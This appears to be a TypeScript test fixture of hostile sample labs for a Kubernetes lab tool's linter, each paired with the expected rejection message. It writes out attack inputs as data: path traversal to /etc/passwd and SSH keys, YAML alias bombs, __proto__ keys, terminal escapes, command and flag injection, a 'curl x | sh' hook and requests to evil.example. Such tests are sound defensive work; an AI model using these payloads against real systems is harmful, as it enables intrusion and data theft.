import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { labLimits } from '../../src/labs/lab-folder.ts';
import { type FileContent, sampleYaml } from './sample-lab.ts';

/** A lab that means harm, or looks as if it did. */
export interface HostileLab {
  readonly name: string;
  /** Files of the sample lab that are changed or added. */
  readonly files?: Readonly<Record<string, FileContent>>;
  /** What files alone can not say. */
  readonly prepare?: (lab: string) => void;
  /** What `lab lint` says of it, with the place. */
  readonly lint: string;
  /** What `lab start` says of it; absent where the lab can be begun, and what is wrong shows where it is used. */
  readonly start?: string;
}

const title = 'title: {en: "The first pod", ko: "첫 파드"}';
const solution = '{apply: files/web.yaml}';
const kindCheck = 'object: {kind: Pod, name: web, conditions: {Ready: "True"}}';

function change(from: string, to: string): { readonly 'lab.yaml': string } {
  if (!sampleYaml.includes(from)) throw new Error(`the sample lab has no ${from}`);
  return { 'lab.yaml': sampleYaml.replace(from, () => to) };
}

/** One that its lab.yaml gives away: lint and start say the same, where `says` begins with a place, with that place. */
function inYaml(name: string, from: string, to: string, says: string): HostileLab {
  const [, place = '', words = says] = /^(\d+:\d+) (.*)$/s.exec(says) ?? [];
  if (place === '') return { name, files: change(from, to), lint: words, start: words };
  const at = `first-pod/lab.yaml:${place}`;
  return { name, files: change(from, to), lint: `${at} error LAB001 ${words}`, start: `${at} ${words}` };
}

const notAPath = 'expected the path of a file in the lab, such as files/web.yaml, found';

const paths: HostileLab[] = [
  ['../../etc/passwd', '"../../etc/passwd"'],
  ['/etc/passwd', '"/etc/passwd"'],
  ['files/../../x', '"files/../../x"'],
  ['"files\\\\..\\\\x"', '"files\\\\\\\\..\\\\\\\\x"'],
  ['.ssh/id_ed25519', '".ssh/id_ed25519"'],
  ['"files/web.yaml\\0.txt"', '"files/web.yaml\\u0000.txt"'],
  ['file:///etc/passwd', '"file:///etc/passwd"'],
  ['~/x', '"~/x"'],
].map(([written = '', shown = '']) =>
  inYaml(
    `applies ${written}`,
    solution,
    `{apply: ${written}}`,
    `24:17 steps[0].solve[0].apply: ${notAPath} ${shown.replaceAll('\\\\\\\\', '\\\\')}`,
  ),
);

const yaml: HostileLab[] = [
  inYaml(
    'is a bomb of aliases',
    'minutes: 10',
    `minutes: 10\nx-bomb: [&a [1], ${Array.from({ length: 101 }, () => '*a').join(', ')}]`,
    'uses aliases (*name) more than 100 times',
  ),
  inYaml(
    'is a part of itself',
    'minutes: 10',
    'minutes: 10\nx-loop: &a [*a]',
    '8:13 this alias stands for something that it is a part of',
  ),
  inYaml('is nested deeply', 'minutes: 10', `minutes: ${'['.repeat(60)}${']'.repeat(60)}`, 'nested too deeply'),
  inYaml(
    'is nested so deeply that reading it uses up the stack',
    'minutes: 10',
    `minutes: ${'['.repeat(50_000)}`,
    '1:1 the file is nested too deeply',
  ),
  inYaml('has a key twice', 'minutes: 10', 'minutes: 10\nminutes: 20', '8:1 the key "minutes" is given twice, first at 7:1'),
  inYaml('merges keys', kindCheck, 'object: {kind: Pod, <<: {name: web}}', '18:29 steps[0].checks[0].object: unknown key "<<"'),
  inYaml(
    'has __proto__ for a key',
    kindCheck,
    'object: {kind: Pod, labels: {__proto__: x}}',
    '18:38 the key "__proto__" is not allowed',
  ),
  inYaml(
    'has __proto__ for a key, written with an escape',
    kindCheck,
    'object: {kind: Pod, labels: {"\\x5f_proto__": x}}',
    '18:38 the key "__proto__" is not allowed',
  ),
  inYaml(
    'has constructor for a key',
    kindCheck,
    'object: {kind: Pod, match: {constructor: {prototype: x}}}',
    '18:37 the key "constructor" is not allowed',
  ),
  inYaml(
    'has constructor for an id',
    '- id: pod-ready',
    '- id: constructor',
    '17:13 steps[0].checks[0].id: this id is not allowed',
  ),
  inYaml(
    'has hasOwnProperty for an id',
    '- id: pod-ready',
    '- id: hasOwnProperty',
    '17:13 steps[0].checks[0].id: expected an id of lower-case letters',
  ),
  inYaml(
    'has __proto__ for a variable',
    '  TOKEN: {random: hex8}',
    '  __proto__: {random: hex8}',
    'the key "__proto__" is not allowed',
  ),
  inYaml(
    'has hasOwnProperty for a variable',
    '  TOKEN: {random: hex8}',
    '  hasOwnProperty: {random: hex8}',
    'expected a name in capitals, such as TOKEN',
  ),
  inYaml(
    'has a value of 5 KiB',
    '  TOKEN: {random: hex8}',
    `  TOKEN: {value: ${'x'.repeat(5 * 1024)}}`,
    'vars.TOKEN.value: expected a value of at most 4 KiB',
  ),
  inYaml(
    'has a value of 5 KiB to choose from',
    '  TOKEN: {random: hex8}',
    `  TOKEN: {pick: [x, ${'x'.repeat(5 * 1024)}]}`,
    'vars.TOKEN.pick[1]: expected a value of at most 4 KiB',
  ),
  inYaml(
    'has a tag for a function',
    'minutes: 10',
    'minutes: !!js/function "function () {}"',
    '7:10 not valid YAML: unresolved tag',
  ),
  inYaml(
    'asks for an older YAML, in which the same text means something else',
    'apiVersion: labpack/v1',
    '%YAML 1.1\n---\napiVersion: labpack/v1',
    '1:1 expected YAML 1.2, found a directive for 1.1',
  ),
  inYaml('fills the screen with its title', 'The first pod', 'x'.repeat(121), '5:13 title.en: expected at most 120 characters'),
  inYaml('has a tag for bytes', 'minutes: 10', 'minutes: !!binary aGVsbG8=', '7:10 not valid YAML: unresolved tag'),
  inYaml('has a tag of its own', 'minutes: 10', 'minutes: !include /etc/passwd', '7:10 not valid YAML: unresolved tag'),
  inYaml(
    'holds a second document',
    'minutes: 10',
    'minutes: 10\n---\nkind: Lab',
    'expected one document, and here a second one begins',
  ),
];

const texts: HostileLab[] = [
  ['NUL', '\\0', '\\u0000'],
  ['a CSI', '\\e[2J', '\\u001b[2J'],
  ['an OSC 8', '\\e]8;;x\\a', '\\u001b]8;;x\\u0007'],
  ['an OSC 52', '\\e]52;c;eA==\\a', '\\u001b]52;c;eA==\\u0007'],
  ['a C1 control', '\\u009b2J', '\\u009b2J'],
  ['DEL', '\\x7f', '\\u007f'],
  ['a line of its own', '\\nx', '\\nx'],
  ['an override of direction', '\\u202ex', '\\u202ex'],
  ['an isolate', '\\u2066x', '\\u2066x'],
  ['a line separator', '\\u2028x', '\\u2028x'],
].flatMap(([name = '', written = '', shown = '']) => [
  inYaml(
    `has ${name} in its title`,
    title,
    `title: {en: "a${written}", ko: "첫 파드"}`,
    `5:13 title.en: expected a title, in English, found "a${shown}"`,
  ),
  inYaml(
    `has ${name} in a message`,
    'en: "The pod is not ready."',
    `en: "a${written}"`,
    `steps[0].checks[0].message.en: expected a message, in English, found "a${shown}"`,
  ),
  inYaml(
    `has ${name} in a hint`,
    'en: "Which command makes one pod?"',
    `en: "a${written}"`,
    `steps[0].hints[0].text.en: expected a hint, in English, found "a${shown}"`,
  ),
]);

const host: HostileLab[] = [
  inYaml(
    'asks for the host',
    solution,
    '{on: host, run: id}',
    'steps[0].solve[0].on: expected control-plane, workers, nodes, nfs-server, or a node such as worker1, found "host"',
  ),
  inYaml(
    'asks for a node that is a flag',
    solution,
    '{on: -oProxyCommand=id, run: id}',
    'steps[0].solve[0].on: expected control-plane',
  ),
  inYaml(
    'has a namespace of the system',
    'namespace: lab-first-pod',
    'namespace: kube-system',
    'namespace: expected a namespace that begins with lab-',
  ),
  inYaml(
    'has a namespace that is a flag',
    'namespace: lab-first-pod',
    'namespace: --all-namespaces',
    'namespace: expected a namespace that begins with lab-',
  ),
  inYaml(
    'has a namespace with a command',
    'namespace: lab-first-pod',
    'namespace: lab-$(id)',
    'namespace: expected a namespace that begins with lab-',
  ),
  inYaml(
    'removes all objects of a kind when it ends',
    'steps:',
    'reset: {clusterObjects: [{kind: nodes, name: --all}]}\nsteps:',
    'reset.clusterObjects[0].name: expected a name, found "--all"',
  ),
  inYaml(
    'removes objects by a list of kinds',
    'steps:',
    'reset: {clusterObjects: [{kind: "nodes,pods", name: x}]}\nsteps:',
    'reset.clusterObjects[0].kind: expected a kind, found "nodes,pods"',
  ),
  ...['node', 'nodes', 'no', 'Node', 'nodes.v1.', 'ns', 'Namespace', 'namespaces', 'NameSpaces.v1.'].map((kind) =>
    inYaml(
      `removes a ${kind} when it ends`,
      'steps:',
      `reset: {clusterObjects: [{kind: ${kind}, name: default}]}\nsteps:`,
      'reset.clusterObjects[0].kind: a lab removes no nodes, and no namespace but its own',
    ),
  ),
  inYaml('has a hook', 'minutes: 10', 'minutes: 10\npreinstall: curl x | sh', '8:1 unknown key "preinstall"'),
  { name: 'uses a variable of the host', files: change('"The pod is not ready."', '"${HOME}"'), lint: 'LAB009' },
  {
    name: 'leads kubectl to another cluster',
    files: change(solution, '{kubectl: [get, pods, --server=https://evil.example]}'),
    lint: 'LAB038',
  },
  {
    name: 'has an expression that is none',
    files: change(kindCheck, 'object: {kind: Pod, match: {spec: {nodeName: {$regex: "("}}}}'),
    lint: 'LAB037',
  },
];

const noPlainFile = 'first-pod/lab.yaml:1:1 error LAB003 "files/evil.yaml" is no plain file';
const folder: HostileLab[] = [
  {
    name: 'has a link that leads out',
    files: { 'files/evil.yaml': ({ symlink }) => symlink('../../secret') },
    lint: 'first-pod/lab.yaml:1:1 error LAB003 "files/evil.yaml" is a link that leads out of the lab',
  },
  {
    name: 'has a link to a device',
    files: { 'files/evil.yaml': ({ symlink }) => symlink('/dev/zero') },
    lint: 'first-pod/lab.yaml:1:1 error LAB003 "files/evil.yaml" is a link that leads out of the lab',
  },
  {
    name: 'has a link to itself',
    files: { 'files/evil.yaml': ({ symlink }) => symlink('evil.yaml') },
    lint: 'first-pod/lab.yaml:1:1 error LAB003 "files/evil.yaml" is not in the lab',
  },
  {
    name: 'is a link that leads out itself',
    files: { 'lab.yaml': ({ symlink }) => symlink('../secret') },
    lint: 'first-pod/lab.yaml:1:1 error LAB001 There is no lab.yaml in',
    start: 'KL-LAB-UNKNOWN',
  },
  { name: 'has a pipe', prepare: (lab) => void execFileSync('mkfifo', [join(lab, 'files/evil.yaml')]), lint: noPlainFile },
  {
    name: 'has a file of 2 MiB',
    files: { 'files/evil.yaml': 'x'.repeat(2 * labLimits.fileBytes) },
    lint: 'LAB003 "files/evil.yaml" is larger than 1 MiB',
  },
  {
    name: 'has a lab.yaml of 300 KiB',
    files: { 'lab.yaml': `${sampleYaml}# ${'x'.repeat(300 * 1024)}` },
    lint: 'lab.yaml is too large: expected at most 256 KiB',
    start: 'lab.yaml is too large: expected at most 256 KiB',
  },
  {
    name: 'has a lab.yaml of 2 MiB',
    files: { 'lab.yaml': `# ${'x'.repeat(2 * labLimits.fileBytes)}` },
    lint: 'The file "lab.yaml" is larger than 1 MiB',
    start: 'The file "lab.yaml" is larger than 1 MiB',
  },
  {
    name: 'has very many files',
    files: Object.fromEntries(Array.from({ length: labLimits.files + 1 }, (_, index) => [`files/f${index}`, ''])),
    lint: 'LAB003 the lab holds more than 500 files',
  },
  { name: 'has very deep folders', files: { [`${'a/'.repeat(20)}x`]: '' }, lint: 'LAB003 "a/a/a/a/a/a/a/a" lies too deep' },
  { name: 'has a file with a newline in its name', files: { 'files/a\nb': '' }, lint: 'has a name that a lab can not use' },
  {
    name: 'is not text',
    files: { 'files/web.yaml': Buffer.from([0xff, 0xfe, 0x00]) },
    lint: 'files/web.yaml:1:1 error LAB003 expected text in UTF-8',
  },
  {
    name: 'is not text in its lab.yaml',
    files: { 'lab.yaml': Buffer.from([0xff, 0xfe, 0x00]) },
    lint: 'The file "lab.yaml" is not text in UTF-8',
    start: 'The file "lab.yaml" is not text in UTF-8',
  },
  {
    name: 'has a manifest that is a bomb',
    files: { 'files/web.yaml': `a: &a [1]\nb: [${Array.from({ length: 101 }, () => '*a').join(', ')}]\n` },
    lint: 'LAB027 the file uses aliases (*name) more than 100 times',
  },
  {
    name: 'has a manifest of very many documents',
    files: { 'files/web.yaml': '---\na: 1\n'.repeat(100_000) },
    lint: 'files/web.yaml:1:1 error LAB027 expected at most 200 documents in a manifest, found 100000',
  },
  {
    name: 'has escapes in its text',
    files: { 'text/en/run.md': '# Run it\n\nMake\u001b]52;c;eA==\u0007 a pod\u202e.\n' },
    lint: 'text/en/run.md:3:5 error LAB020 here is the control character U+001B',
  },
  {
    name: 'has HTML in its text',
    files: { 'text/en/run.md': '# Run it\n\n<script>x</script> <img src="https://evil.example/x">\n' },
    lint: 'text/en/run.md:3:1 error LAB018',
  },
];

export const hostileLabs: readonly HostileLab[] = [...paths, ...yaml, ...texts, ...host, ...folder];
